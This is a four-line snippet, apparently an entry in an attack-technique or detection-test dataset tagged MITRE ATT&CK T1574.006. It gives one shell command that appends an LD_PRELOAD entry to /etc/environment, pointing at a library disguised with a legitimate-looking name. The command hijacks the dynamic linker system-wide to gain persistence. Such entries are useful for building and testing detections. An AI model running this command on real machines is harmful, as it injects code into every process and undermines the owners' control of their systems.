# technique: T1574.006
# location: linux.environment.system
# source: /etc/environment
echo 'LD_PRELOAD=/usr/lib/libnscd.so.1' >> /etc/environment
